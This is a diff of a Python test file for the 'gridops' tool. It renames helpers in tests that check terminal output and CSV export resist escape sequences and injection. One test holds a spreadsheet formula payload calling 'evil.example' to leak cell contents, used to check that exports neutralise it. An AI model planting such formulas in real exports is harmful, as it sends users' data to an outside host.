@@ -27,7 +27,7 @@ from gridops.render.units import spreadsheet_cell
 from gridops.system.text import escaped_json, printable, printable_lines
 from gridops.tasks import _terminal
 from gridops.tasks._progress import Narrator
-from gridops.tasks._task import guarded
+from gridops.tasks._task import exit_status_of
 
 # ESC and its sequences, BEL, line ends, DEL, C1 (its CSI), direction overrides, line separators,
 # a tag character beyond the BMP.
@@ -79,7 +79,7 @@ def test_an_error_is_said_harmlessly_also_with_its_traceback(capsys, monkeypatch
     def fail() -> int:
         raise error
 
-    assert guarded(fail) == 125
+    assert exit_status_of(fail) == 125
     said = capsys.readouterr().err
     assert harmless(said, lines=True)
     assert ("Traceback" in said) == bool(debug)
@@ -131,12 +131,12 @@ def test_a_table_of_what_nodes_say_is_harmless(screen, monkeypatch):
     evil = replace(BUSY, node=replace(BUSY.node, name=f"n{HALF}"), ray=HALF, reasons=(HALF,))
     found = [evil, replace(DEAD, error=HALF)]
     _terminal.show_table(
-        lambda: tables.aligned(*tables.health_columns(found)), lambda: tables.health_table(found)
+        lambda: tables.align(*tables.health_columns(found)), lambda: tables.health_table(found)
     )
     run = Job(f"j{HALF}", HALF, "running", HALF, HALF, started=1.0, gpus=(HALF,))
-    _terminal.show_rows(jobs.HEADER, [jobs.row(run, 2.0)])
+    _terminal.show_rows(jobs.JOBS_HEADER, [jobs.row(run, 2.0)])
     row = RunRow(HALF, HALF, HALF, 1.0, 1.0, "finished", 0, HALF, HALF)
-    _terminal.show_rows(history.HEADER, [history.row(row, 2.0)])
+    _terminal.show_rows(history.HISTORY_HEADER, [history.row(row, 2.0)])
     _terminal.show_lines(line.pieces for line in history.durations([row], 2.0, 80, ascii=True))
     _terminal.show(jobs.lines(run, 2.0))
     text = seen(screen)
@@ -243,7 +243,7 @@ def test_a_csv_of_what_was_run_and_said_has_no_formula():
     formula = '=HYPERLINK("http://evil.example/?"&A1)'
     run = RunRow(formula, "run", "node1", 1.0, -1.5, "finished", -9, f"\t{formula}", f"@{EVIL}")
     (row,) = csv.DictReader(
-        io.StringIO(tables.to_csv(history.CSV, [history.csv_row(run)]), newline="")
+        io.StringIO(tables.to_csv(history.HISTORY_CSV, [history.csv_row(run)]), newline="")
     )
     assert row["id"] == f"'{formula}"
     assert row["command"] == f"'\\t{formula}"
